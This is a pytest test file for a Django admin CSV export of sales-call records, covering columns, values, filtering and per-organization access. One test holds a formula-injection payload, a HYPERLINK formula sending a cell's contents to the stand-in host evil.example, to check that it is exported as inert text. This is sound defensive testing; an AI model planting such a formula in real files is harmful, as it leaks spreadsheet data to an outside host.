import datetime

import pytest
from django.urls import reverse

from activities.api import CALL
from activities.csv_export import NAMES
from tests.activities.conftest import read_calls_csv
from tests.conftest import make_call, make_lead

CHANGELIST = reverse("admin:activities_call_changelist")


def export(client, calls, query="", **extra):
    response = client.post(
        CHANGELIST + query,
        {"action": "export_csv", "_selected_action": [call.pk for call in calls], **extra},
    )
    return read_calls_csv(response)


@pytest.fixture
def call(lead, contact, alice, outcome):
    return make_call(
        lead,
        alice,
        contact=contact,
        disposition="answered",
        duration=125,
        cost="2.5",
        phone="+16505551234",
        outcome=outcome,
        note_html="<p>Asked for a <em>demo</em></p>",
        recording_url="https://recordings.example.com/1.mp3",
        activity_at=datetime.datetime(2026, 3, 4, 10, 30, tzinfo=datetime.UTC),
    )


def test_export_has_the_api_field_names_as_columns_with_names_beside_the_ids(
    superuser_client, call
):
    with_header = superuser_client.post(
        CHANGELIST, {"action": "export_csv", "_selected_action": [call.pk]}
    )
    header = b"".join(with_header.streaming_content).decode().splitlines()[0].split(",")
    api_fields = [name for name, _ in CALL.plan(request=None).getters]
    names = {column.name for column in NAMES.values()}
    assert [name for name in header if name not in names] == api_fields
    assert header[:9] == [
        "id", "_type", "organization_id", "lead_id", "lead_name", "contact_id", "contact_name",
        "user_id", "user_name",
    ]  # fmt: skip
    assert header[header.index("outcome_id") + 1] == "outcome_name"


def test_export_writes_each_calls_values_as_the_api_does(superuser_client, call, alice):
    [row] = export(superuser_client, [call])
    assert row["id"] == call.id
    assert row["organization_id"] == call.organization_id
    assert row["lead_id"] == call.lead_id
    assert row["lead_name"] == "Wayne Enterprises"
    assert row["contact_name"] == "Bruce Wayne"
    assert row["outcome_name"] == "Demo booked"
    assert row["contact_id"] == call.contact_id
    assert row["user_id"] == alice.id
    assert row["user_name"] == "Alice Archer"
    assert row["created_by_name"] == "Alice Archer"
    assert row["activity_at"] == "2026-03-04T10:30:00.000000+00:00"
    assert row["date_answered"] == "2026-03-04T10:30:00.000000+00:00"
    assert row["direction"] == "outbound"
    assert row["disposition"] == "answered"
    assert row["call_method"] == "regular"
    assert row["duration"] == "125"
    assert row["cost"] == "2.5"
    assert row["remote_phone_formatted"] == "+1 650-555-1234"
    assert row["recording_url"] == "https://recordings.example.com/1.mp3"
    assert row["has_recording"] == "true"
    assert row["voicemail_url"] == ""
    assert row["note"] == "Asked for a demo"
    assert row["note_html"] == "<body><p>Asked for a <em>demo</em></p></body>"
    assert row["outcome_id"] == call.outcome_id


def test_export_has_only_the_selected_calls(superuser_client, call, lead):
    other = make_call(lead)
    assert [row["id"] for row in export(superuser_client, [call])] == [call.id]
    assert {row["id"] for row in export(superuser_client, [call, other])} == {call.id, other.id}


def test_export_of_every_call_across_pages_follows_the_filters(superuser_client, call, lead):
    make_call(lead, direction="inbound", disposition="no-answer")
    rows = export(superuser_client, [call], "?direction__exact=outbound", select_across="1")
    assert [row["id"] for row in rows] == [call.id]


def test_organization_admin_cannot_export_another_organizations_calls(
    acme_admin_client, call, globex
):
    globex_call = make_call(make_lead(globex))
    rows = export(acme_admin_client, [call, globex_call])
    assert [row["id"] for row in rows] == [call.id]


def test_a_note_that_would_run_as_a_formula_is_exported_as_text(superuser_client, lead, alice):
    hostile = make_call(
        lead,
        alice,
        note_html='<p>=HYPERLINK("https://evil.example/?"&amp;A1,"Details")</p>',
    )

    [row] = export(superuser_client, [hostile])

    assert row["note"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Details")'
    assert row["user_name"] == "Alice Archer"
